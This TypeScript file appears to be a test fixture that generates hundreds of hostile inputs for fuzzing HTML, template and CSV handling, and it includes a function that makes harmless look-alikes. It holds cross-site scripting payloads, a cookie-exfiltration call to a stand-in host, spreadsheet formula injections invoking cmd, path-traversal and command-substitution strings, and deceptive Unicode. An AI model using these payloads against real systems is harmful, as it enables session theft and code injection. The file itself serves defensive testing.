/** Texts that try to be more than text, by the place they try to break out of. Made here; no list of anybody's. */

/** What a payload would do. None has a digit, so that prose may hold them too. */
const ACTIONS = [
  'alert(document.domain)',
  'globalThis.pwned=true',
  'prompt`x`',
  '(confirm)(name)',
  'top["al"+"ert"](self)',
  "import('//evil.example/x.js')",
  "document.title='pwned'",
  "fetch('//evil.example/'+document.cookie)",
  "new Image().src='//evil.example'",
  "location='javascript:alert()'",
];

const ELEMENTS: readonly ((act: string) => string)[] = [
  (act) => `<script>${act}</script>`,
  (act) => `<ScRiPt >${act}</sCrIpT >`,
  (act) => `<script src=data:text/javascript,${act}></script>`,
  (act) => `<scr<script>ipt>${act}</scr</script>ipt>`,
  (act) => `<img src=x onerror=${act}>`,
  (act) => `<img/src='x'/onerror='${act.replaceAll("'", '&#x27;')}'>`,
  (act) => `<IMG """><SCRIPT>${act}</SCRIPT>">`,
  (act) => `<svg onload=${act}>`,
  (act) => `<svg/onload=${act}//`,
  (act) => `<svg><script>${act}</script></svg>`,
  (act) => `<svg><animate onbegin=${act} attributeName=x></svg>`,
  (act) => `<svg><a xlink:href="javascript:${act}"><circle r="9"/></a></svg>`,
  (act) => `<svg><foreignObject><iframe srcdoc="<script>${act}</script>"/></foreignObject></svg>`,
  (act) => `<svg><use href="data:image/svg+xml,<svg id='x' onload='${act}'/>#x"/></svg>`,
  (act) => `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${act}>">`,
  (act) => `<math href="javascript:${act}">x</math>`,
  (act) => `<body onload=${act}>`,
  (act) => `<iframe src="javascript:${act}"></iframe>`,
  (act) => `<iframe srcdoc="<img src=x onerror=${act}>"></iframe>`,
  (act) => `<object data="javascript:${act}"></object>`,
  (act) => `<embed src="javascript:${act}">`,
  (act) => `<video><source onerror="${act}"></video>`,
  (act) => `<audio src onloadstart=${act}>`,
  (act) => `<details open ontoggle=${act}>`,
  (act) => `<input autofocus onfocus=${act}>`,
  (act) => `<select autofocus onfocus=${act}>`,
  (act) => `<marquee onstart=${act}>`,
  (act) => `<form action="javascript:${act}"><button>go</button></form>`,
  (act) => `<button popovertarget=x>x</button><div popover id=x onbeforetoggle=${act}>`,
  (act) => `<a href="javascript:${act}">x</a>`,
  (act) => `<a href="jav&#x09;ascript:${act}">x</a>`,
  (act) => `<style>@import 'data:text/css,*{background:url(//evil.example)}';</style>${act}`,
  (act) => `<link rel=stylesheet href="//evil.example/${act}">`,
  (act) => `<meta http-equiv=refresh content="0;url=javascript:${act}">`,
  (act) => `<base href="//evil.example/${act}/">`,
  (act) => `<template><script>${act}</script></template>`,
  (act) => `<x style="animation-name:x" onanimationstart="${act}">`,
  (act) => `<x contenteditable onblur=${act}>x</x>`,
];

const BREAKOUTS: readonly ((act: string) => string)[] = [
  (act) => `" onmouseover="${act}" x="`,
  (act) => `' onfocus='${act}' autofocus x='`,
  (act) => `\` onclick=${act} x=\``,
  (act) => `x onpointerenter=${act} `,
  (act) => `"><script>${act}</script>`,
  (act) => `'><img src=x onerror=${act}>`,
  (act) => `</title><script>${act}</script>`,
  (act) => `</textarea><script>${act}</script>`,
  (act) => `</style><script>${act}</script>`,
  (act) => `</noscript><script>${act}</script>`,
  (act) => `</table></main></body><script>${act}</script>`,
  (act) => `</text></svg><script>${act}</script>`,
  (act) => `</desc></title><svg onload=${act}>`,
  (act) => `--><script>${act}</script><!--`,
  (act) => `--!><img src=x onerror=${act}>`,
  (act) => `]]><script>${act}</script><![CDATA[`,
  (act) => `<![CDATA[<script>${act}</script>]]>`,
  (act) => `?><script>${act}</script><?x `,
  (act) => `</script><script>${act}</script>`,
  (act) => `</script ><svg onload=${act}>`,
  (act) => `<!--<script>${act}`,
  (act) => `";${act};//`,
  (act) => `';${act};//`,
  (act) => `\\";${act};//`,
  (act) => `\\u003c/script>\\u003cscript>${act}`,
  (act) => `"}];${act};[{"x":"`,
  (act) => `\${${act}}`,
  (act) => `\u2028${act}\u2029`,
  (act) => `*/${act}/*`,
  (act) => `&lt;script&gt;${act}&lt;/script&gt;`,
  (act) => `&#60;script&#62;${act}&#60;/script&#62;`,
  (act) => `%3Cscript%3E${act}%3C/script%3E`,
  (act) => `＜script＞${act}＜/script＞`,
  (act) => `<\u200bscript>${act}</\u200bscript>`,
  (act) => `javascript:${act}`,
  (act) => `data:text/html,<script>${act}</script>`,
];

const TEMPLATES: readonly ((act: string) => string)[] = [
  (act) => `{{constructor.constructor(${JSON.stringify(act)})()}}`,
  (act) => `{{{${act}}}}`,
  (act) => `{${act}}`,
  (act) => `{% value "${act}" /%}`,
  (act) => `{% chart "x" /%}${act}`,
  (act) => `{% raw %}${act}{% endraw %}`,
  (act) => `<% ${act} %>`,
  (act) => `<?= ${act} ?>`,
  (act) => `#{${act}}`,
  (act) => `[[${act}]]`,
  (act) => `<Fragment set:html={"<script>${act}</script>"} />`,
  (act) => `<script is:inline define:vars={{x}}>${act}</script>`,
  (act) => `---\n${act}\n---`,
  (act) => `<p v-html="${act}" :onclick="${act}" @click="${act}"></p>`,
  (act) => `<p dangerouslySetInnerHTML={{__html: ${act}}} />`,
  (act) => `[x](javascript:${act})`,
  (act) => `![x](data:image/svg+xml,<svg/onload=${act}>)`,
  (act) => `<javascript:${act}>`,
];

const FORMULAS = [
  '=HYPERLINK("//evil.example","x")',
  "=cmd|'/C calc'!A",
  '+SUM(A:A)*cmd|x',
  '-SUM(A:A)',
  '@SUM(A:A)',
  '＝SUM(A:A)',
  '\t=SUM(A:A)',
  '"=SUM(A:A)"',
  '%0A=SUM(A:A)',
  '=IMPORTXML(CONCAT("//evil.example/",A:A),"//a")',
  'DDE("cmd";"/C calc";"x")',
  ';=SUM(A:A);',
];

const NAMES = [
  ...['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf', 'toJSON', 'then', 'length', 'default'],
  ...[
    '../../../../etc/passwd',
    '..\\..\\windows',
    '%2e%2e%2fx',
    'file:///etc/passwd',
    '//evil.example/x',
    'CON',
    'nul.csv',
    '-rf',
    '~root',
    'index.html',
  ],
  ...[
    'null',
    'undefined',
    'NaN',
    'true',
    '[object Object]',
    'None',
    '&',
    '<',
    '>',
    '"',
    "'",
    '`',
    '\\',
    '/',
    '#',
    '?',
    '%',
    '%s%n',
    ':',
    ';',
    '|',
    '$(id)',
    '`id`',
  ],
];

const UNICODE = [
  '\u202etxt.exe',
  '\u2067مرحبا\u2069 שלום',
  'zero\u200bwidth\u200d\u2060joined\ufeff',
  'Z\u0351\u036b\u0343a\u0323\u0355l\u031b\u0356g\u0321\u031co\u0322\u0300',
  'é e\u0301 ﬁ Å Å 가 가',
  '👩🏽‍👩🏽‍👧🏽‍👦🏽🏴\u{e0067}\u{e0062}\u{e007f}',
  '𠜎𠜱𡿺\u{10ffff}',
  '\ue000\uf8ff',
  '\ufffe\uffff',
  'ｊａｖａｓｃｒｉｐｔ：',
  '\u0085\u00a0\u1680\u2000\u2028\u2029\u3000x',
  'ـ'.repeat(40),
  'W'.repeat(400),
  '长'.repeat(300),
  '\u0301'.repeat(60),
];

const times = (shapes: readonly ((act: string) => string)[]): readonly string[] =>
  ACTIONS.flatMap((act) => shapes.map((shape) => shape(act)));

/** Several hundred different texts without line ends at their sides, as cells of a table may hold them. */
export const PAYLOADS: readonly string[] = [
  ...new Set([...times(ELEMENTS), ...times(BREAKOUTS), ...times(TEMPLATES), ...FORMULAS, ...NAMES, ...UNICODE].map((text) => text.trim())),
];

/** What JSON may hold and a file of tables may not: controls and halves of characters. */
export const ODD_TEXTS: readonly string[] = [
  '\u0000<script>',
  'bell\u0007\u001b[31m',
  'half \ud800 of',
  '\udc00\ud800',
  'a\r\nb\n\nc\td',
  '\u007f\u009f',
];

/** Addresses that no reader may be led to, and that no browser may be asked for. */
export const BAD_ADDRESSES: readonly string[] = [
  ...[
    'javascript:alert(document.domain)',
    'JaVaScRiPt:alert()',
    ' \u0001javascript:alert()',
    'java\nscript:alert()',
    'java\tscript:alert()',
  ],
  ...[
    'javascript&colon;alert()',
    'java&#115;cript:alert()',
    'data:text/html,<script>alert()</script>',
    'vbscript:msgbox()',
    'file:///etc/passwd',
  ],
  ...['//evil.example/x', 'https://www.gov.example@evil.example/', '" onclick="alert()', 'blob:https://evil.example/x', 'about:blank'],
];

const TWINS: Readonly<Record<string, string>> = {
  '<': '^',
  '>': '~',
  '"': '|',
  "'": '’',
  '&': '+',
  '`': '*',
  '{': '#',
  '}': '!',
  '%': '?',
  $: '§',
  '＜': '＊',
  '＞': '＋',
};

/** Harmless text of the same kind: as long, with word breaks in the same places, and nothing in it that means anything to a machine. */
export function harmless(text: string): string {
  return text
    .replace(/[<>"'&`{}%$＜＞]/g, (char) => TWINS[char] ?? char)
    .replace(/script/gi, 'scraps')
    .replace(/alert/g, 'aloud')
    .replace(/pwned/g, 'owned');
}
